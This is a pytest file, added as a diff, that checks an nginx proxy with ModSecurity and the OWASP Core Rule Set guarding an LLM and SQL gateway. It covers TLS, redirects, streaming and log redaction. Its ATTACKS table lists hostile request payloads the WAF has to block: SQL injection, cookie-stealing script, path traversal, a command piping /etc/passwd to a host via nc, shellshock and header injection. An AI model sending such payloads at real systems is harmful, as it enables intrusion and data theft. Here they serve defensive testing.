@@ -1,0 +1,154 @@
+"""The proxy's own configuration as a process of nginx, with the OWASP Core Rule Set, before the real gateway."""
+
+import os
+import re
+import shutil
+import ssl
+import subprocess
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+
+from course_utils.artifacts import PROJECT
+from course_utils.processes import LOOPBACK, Server, choose_port
+from tests.stack.programs import run_program
+from tests.stack.test_gateway import CHAT, SQL, events
+
+RULES = Path("/usr/share/modsecurity-crs/rules")
+MODULE = Path("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so")
+pytestmark = pytest.mark.skipif(
+    not (shutil.which("nginx") and shutil.which("openssl") and RULES.is_dir() and MODULE.is_file()),
+    reason="Debian's nginx, libnginx-mod-http-modsecurity and modsecurity-crs are not all installed",
+)
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("proxy")
+
+
+@pytest.fixture(scope="module")
+def plain_port() -> int:
+    return choose_port(LOOPBACK)
+
+
+@pytest.fixture(scope="module")
+def proxy(gateway: Server, folder: Path, plain_port: int) -> Iterator[httpx.Client]:
+    subject = ["-subj", "/CN=localhost", "-addext", f"subjectAltName=IP:{LOOPBACK},DNS:localhost"]
+    files = ["-keyout", folder / "key", "-out", folder / "certificate"]
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", *subject, *files], check=True)
+    port = choose_port(LOOPBACK)
+    here = {
+        "listen 8080": f"listen {LOOPBACK}:{plain_port}",
+        "listen 8443": f"listen {LOOPBACK}:{port}",
+        "/run/secrets/tls_certificate": f"{folder}/certificate",
+        "/run/secrets/tls_key": f"{folder}/key",
+        " /tmp/": f" {folder}/",
+        "http://gateway:8000": gateway.url,
+        "http://web:8501": gateway.url,
+    }
+    for name in ("nginx.conf", "waf.conf"):
+        text = (PROJECT / "deploy" / "proxy" / name).read_text("utf-8")
+        assert name != "nginx.conf" or all(each in text for each in here)
+        text = re.sub("|".join(map(re.escape, here)), lambda found: here[found[0]], text)
+        (folder / name).write_text(text, "utf-8")
+    # As root nginx would give its workers to another user, who may not enter this folder.
+    as_here = ["-g", "daemon off; user root;" if os.geteuid() == 0 else "daemon off;"]
+    trusted = ssl.create_default_context(cafile=str(folder / "certificate"))
+    url = f"https://localhost:{port}"
+    with (
+        run_program(["nginx", "-e", "stderr", "-c", folder / "nginx.conf", *as_here], port, folder),
+        httpx.Client(base_url=url, verify=trusted, timeout=60, trust_env=False) as client,
+    ):
+        yield client
+
+
+def test_tls_with_a_certificate_that_the_client_checks(proxy: httpx.Client, plain_port: int) -> None:
+    response = proxy.get("/health/live")
+    assert response.status_code == 200
+    assert response.headers["Strict-Transport-Security"]
+    with pytest.raises(httpx.ConnectError):
+        httpx.get(f"{proxy.base_url}/health/live", trust_env=False)
+    plain = httpx.get(f"http://{LOOPBACK}:{plain_port}/v1/models", trust_env=False)
+    assert (plain.status_code, plain.headers["Location"]) == (308, f"https://{LOOPBACK}/v1/models")
+
+
+HONEST = [
+    "How many singers are there?",
+    "Drop everything and tell me: which union has members in 1=1 place?",
+    "Which songs are called 'Robert'); DROP TABLE students;--'?",
+    "List <b>bold</b> names from /etc/passwd or C:\\boot.ini, please",
+    "Welche Sänger heißen Zoë? 日本の歌手は?",
+]
+
+
+@pytest.mark.parametrize("question", HONEST)
+def test_an_honest_question_passes_whatever_its_words(proxy: httpx.Client, question: str) -> None:
+    assert proxy.post("/v1/sql", json=SQL | {"question": question}).status_code == 200
+    chat = CHAT | {"messages": [{"role": "user", "content": question}]}
+    assert proxy.post("/v1/chat/completions", json=chat).status_code == 200
+
+
+def test_a_correction_is_sql_and_passes(proxy: httpx.Client) -> None:
+    query = "SELECT name FROM singer WHERE name = 'Ana' OR 1 = 1 UNION SELECT name FROM singer -- all"
+    body = {"id": "x", "rating": "down", "database": "music", "query": query, "correction": query}
+    assert proxy.post("/v1/feedback", json=body).status_code == 201
+
+
+def test_a_stream_comes_piece_by_piece(proxy: httpx.Client) -> None:
+    with proxy.stream("POST", "/v1/chat/completions", json=CHAT | {"stream": True}) as response:
+        assert response.status_code == 200
+        assert "Content-Length" not in response.headers
+        assert len(events(response)) > 2
+
+
+ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
+    "sql in the query": ("/v1/models?id=1' OR '1'='1", {}),
+    "union in the query": ("/v1/models?id=1 UNION SELECT password FROM users--", {}),
+    "script in the query": ("/v1/models?q=<script>alert(1)</script>", {}),
+    "a file in the query": ("/v1/models?f=../../../../etc/passwd", {}),
+    "a command in the query": ("/v1/models?c=;cat /etc/passwd|nc example.com 80", {}),
+    "another server in the query": ("/v1/models?url=http://127.0.0.1/evil.php?", {}),
+    "php in the query": ("/v1/models?x=<?php system('id'); ?>", {}),
+    "a secret file in the path": ("/.git/config", {}),
+    "a password file in the path": ("/app/.env", {}),
+    "a scanner": ("/v1/models", {"User-Agent": "sqlmap/1.7"}),
+    "shellshock in a header": ("/v1/models", {"X-Api": "() { :;}; /bin/cat /etc/passwd"}),
+    "script in a header": ("/v1/models", {"Referer": "https://x/<script>alert(document.cookie)</script>"}),
+    "sql in a cookie": ("/v1/models", {"Cookie": "a=1' UNION SELECT name FROM sqlite_master--"}),
+    "a header in a parameter": ("/v1/models?a=x%0d%0aSet-Cookie: admin=1", {}),
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
+def test_an_attack_ends_at_the_proxy(proxy: httpx.Client, attack: tuple[str, dict[str, str]]) -> None:
+    path, headers = attack
+    assert proxy.get(path, headers=headers).status_code == 403
+
+
+@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PATCH", "PROPFIND"])
+def test_a_method_that_nothing_here_takes(proxy: httpx.Client, method: str) -> None:
+    assert proxy.request(method, "/v1/models").status_code in (400, 403, 405)
+
+
+@pytest.mark.parametrize("path", ["/metrics", "/docs", "/openapi.json", "/health/ready"])
+def test_what_operators_read_is_not_outside(proxy: httpx.Client, path: str) -> None:
+    assert proxy.get(path).status_code == 404
+
+
+def test_a_body_that_is_too_large_or_no_json(proxy: httpx.Client) -> None:
+    assert proxy.post("/v1/sql", json=SQL | {"question": "x" * 200_000}).status_code == 413
+    form = {"Content-Type": "application/x-www-form-urlencoded"}
+    assert proxy.post("/v1/sql", content=b"question=x", headers=form).status_code == 403
+
+
+def test_the_log_keeps_nothing_of_what_users_write(proxy: httpx.Client, folder: Path) -> None:
+    proxy.get("/v1/models?name=Mustermann", headers={"Authorization": "Bearer sesame"})
+    deadline, log = time.monotonic() + 10, ""
+    while '"path":"/v1/models"' not in log and time.monotonic() < deadline:
+        log = (folder / "nginx.log").read_text("utf-8")
+        time.sleep(0.05)
+    assert not [word for word in ("Mustermann", "sesame") if word in log]
